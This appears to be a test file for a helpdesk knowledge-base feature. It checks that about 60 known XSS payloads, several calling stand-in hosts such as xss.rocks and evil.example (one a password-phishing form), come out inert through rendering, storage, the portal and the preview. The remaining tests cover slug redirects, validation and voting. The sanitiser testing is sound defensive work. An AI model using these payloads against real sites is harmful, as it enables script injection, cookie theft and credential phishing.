import { expect } from 'chai';
import { Parser } from 'htmlparser2';
import { browserFor, loadFixtures, signIn, signInToPortal, sql, type Browser } from '../support/index.js';
import { renderArticle } from '../../src/domain/kb/render.js';
import { addArticle, addCategory } from './support.js';

// From OWASP's XSS Filter Evasion Cheat Sheet and html5sec.org, as Markdown bodies.
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">hidden</div>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" AllowScriptAccess="always"></EMBED>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://tracker.example/pixel.gif)',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<object data="javascript:alert(1)">',
  '<isindex action=javascript:alert(1) type=image>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="  javascript:alert(1)">x</a>',
  '<img src="/portal/kb/images/1" onerror="alert(1)">',
];

const ALLOWED_TAGS = new Set(['h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'kbd', 'samp', 'ul', 'ol', 'li', 'dl', 'dt', 'dd',
  'strong', 'b', 'em', 'i', 'u', 's', 'del', 'ins', 'sub', 'sup', 'mark', 'small', 'a', 'img', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
  'caption', 'details', 'summary', 'figure', 'figcaption']);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'rel', 'src', 'alt', 'align', 'start', 'id']);

/** What in `html` could run, load from elsewhere, or hide content: none of it is allowed. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED_TAGS.has(name)) found.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ALLOWED_ATTRIBUTES.has(attribute)) found.push(`${name}[${attribute}]`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:|\/(?!\/)|#)/i.test(value.trim())) found.push(`${name}[href=${value}]`);
        if (attribute === 'src' && !/^\/portal\/kb\/images\/\d+$/.test(value)) found.push(`${name}[src=${value}]`);
      }
    },
  }, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true });
  parser.write(html);
  parser.end();
  return found;
}

describe('Knowledge base articles', () => {
  let alice: Browser;
  let category: number;
  beforeEach(async () => {
    await loadFixtures();
    alice = await signIn('alice');
    category = await addCategory(alice, 'General');
  });

  it(`renders ${PAYLOADS.length} XSS payloads from the known lists inert, in the stored HTML and the preview`, async () => {
    expect(PAYLOADS.length).to.be.at.least(30);
    for (const payload of PAYLOADS) {
      const body = `Before\n\n${payload}\n\nAfter`;
      const { html } = renderArticle(body);
      expect(html, payload).to.contain('Before');
      expect(dangers(html), payload).to.deep.equal([]);
    }
    // Through the screens: saved, stored beside the Markdown, served in the portal; and the live preview.
    const article = await addArticle(alice, { title: 'Payloads', body: PAYLOADS.join('\n\n'), category, slug: 'payloads' });
    const [row] = await sql<{ body: string; body_html: string }>('select body, body_html from kb_articles where id = $1', [article.id]);
    expect(row.body).to.equal(PAYLOADS.join('\n\n'));
    expect(dangers(row.body_html)).to.deep.equal([]);
    const page = await browserFor('acme').get('/portal/kb/payloads');
    const shown = page.text.match(/<article[^>]*>\s*<h1>[^<]*<\/h1>\s*<p class="muted">[^<]*<\/p>([\s\S]*?)<\/article>/)![1];
    expect(shown).not.to.match(/<script/i);
    expect(dangers(shown)).to.deep.equal([]);
    const preview = await alice.hx('post', '/kb/preview', { body: PAYLOADS.join('\n\n') });
    expect(dangers(preview.text.replace(/<%#[\s\S]*?%>/, ''))).to.deep.equal([]);
  });

  it('gives links to other sites rel="noopener noreferrer" and leaves them ordinary links', () => {
    const { html } = renderArticle('[docs](https://example.com/docs) [here](/portal/kb/other) <a href="https://x.example" target="_blank" rel="opener">x</a>');
    expect(html).to.contain('<a href="https://example.com/docs" rel="noopener noreferrer">docs</a>');
    expect(html).to.contain('<a href="/portal/kb/other">here</a>');
    expect(html).to.contain('<a href="https://x.example" rel="noopener noreferrer">x</a>');
    expect(html).not.to.contain('target');
  });

  it('keeps the old slug as a redirect when the slug changes, and only for readers who may see the article', async () => {
    const a = await addArticle(alice, { title: 'Reset your password', body: 'Go to the page.', category });
    expect(a.slug).to.equal('reset-your-password');
    const res = await alice.post(`/kb/articles/${a.id}`, { title: 'Reset your password', slug: 'password-reset', body: 'Go to the page.', category: String(category), status: 'published', visibility: 'everyone', language: 'en' });
    expect(res.status, res.text).to.equal(303);
    const visitor = browserFor('acme');
    const old = await visitor.get('/portal/kb/reset-your-password');
    expect(old.status).to.equal(301);
    expect(old.headers.location).to.equal('/portal/kb/password-reset');
    expect((await visitor.get('/portal/kb/password-reset')).status).to.equal(200);
    // Made visible to signed-in contacts only: the old slug tells an anonymous visitor nothing.
    await sql("update kb_articles set visibility = 'contacts' where id = $1", [a.id]);
    const hidden = await visitor.get('/portal/kb/reset-your-password');
    expect(hidden.status).to.equal(404);
    expect(hidden.text).not.to.contain('password-reset');
    // The history says who changed what.
    const page = await alice.get(`/kb/articles/${a.id}`);
    expect(page.text).to.contain('Alice Admin · changed: Address (slug)').and.contain('Alice Admin · created the article');
  });

  it('refuses a bad article with the form kept, and a taken slug', async () => {
    await addArticle(alice, { title: 'VPN', body: 'x', category });
    const res = await alice.post('/kb/articles', { title: '', body: 'My **draft**', category: '999999', visibility: 'customers', status: 'draft', language: 'en' });
    expect(res.status).to.equal(422);
    expect(res.text).to.contain('Title is required.').and.contain('Choose a category.').and.contain('Choose at least one customer.').and.contain('My **draft**');
    const taken = await alice.post('/kb/articles', { title: 'VPN', body: '', category: String(category), visibility: 'everyone', status: 'draft', language: 'en' });
    expect(taken.status).to.equal(422);
    expect(taken.text).to.contain('Another article already has the address “vpn”.');
    const reserved = await alice.post('/kb/articles', { title: 'Search', body: '', category: String(category), visibility: 'everyone', status: 'draft', language: 'en' });
    expect(reserved.text).to.contain('“search” is reserved');
  });

  it('counts one vote per contact and per anonymous browser, and lets them change it', async () => {
    const a = await addArticle(alice, { title: 'Printer jams', body: 'Open the tray.', category });
    const mario = await signInToPortal('mario');
    await mario.get(`/portal/kb/${a.slug}`);
    expect((await mario.post(`/portal/kb/${a.slug}/vote`, { helpful: 'yes' })).status).to.equal(303);
    await mario.post(`/portal/kb/${a.slug}/vote`, { helpful: 'yes' });
    const changed = await mario.hx('post', `/portal/kb/${a.slug}/vote`, { helpful: 'no' });
    expect(changed.text).to.contain('aria-pressed="true">No');
    const visitor = browserFor('acme');
    await visitor.get(`/portal/kb/${a.slug}`);
    await visitor.post(`/portal/kb/${a.slug}/vote`, { helpful: 'yes' });
    await visitor.post(`/portal/kb/${a.slug}/vote`, { helpful: 'yes' });
    const votes = await sql<{ voter: string; helpful: boolean }>('select voter, helpful from kb_votes order by id');
    expect(votes.length).to.equal(2);
    expect(votes[0]).to.deep.equal({ voter: `contact:${(await sql<{ id: number }>("select id from contacts where email = 'mario@rossi.test'"))[0].id}`, helpful: false });
    expect(votes[1].helpful).to.equal(true);
    const page = await alice.get(`/kb/articles/${a.id}`);
    expect(page.text).to.contain('1 yes · 1 no');
    // A draft cannot be voted on: the same 404 as no article.
    await sql("update kb_articles set status = 'draft'");
    expect((await visitor.post(`/portal/kb/${a.slug}/vote`, { helpful: 'yes' })).status).to.equal(404);
  });

  it('adds an article link to a ticket reply', async () => {
    const a = await addArticle(alice, { title: 'Printer jams', body: 'Open the tray.', category });
    await (await signInToPortal('mario')).post('/portal/tickets', { title: 'Jammed', description: 'Help' });
    const ticket = await alice.get('/tickets/1001');
    expect(ticket.text).to.contain('Insert article link').and.contain('hx-get="/kb/links"');
    const links = await alice.hx('get', '/kb/links?q=jam');
    expect(links.text).to.contain(`hx-post="/kb/links/${a.id}"`);
    const filled = await alice.hx('post', `/kb/links/${a.id}`, { body: 'Hello Mario,' });
    expect(filled.text).to.contain('Hello Mario,\n\nPrinter jams: http://acme.localhost:3000/portal/kb/printer-jams</textarea>');
  });
});
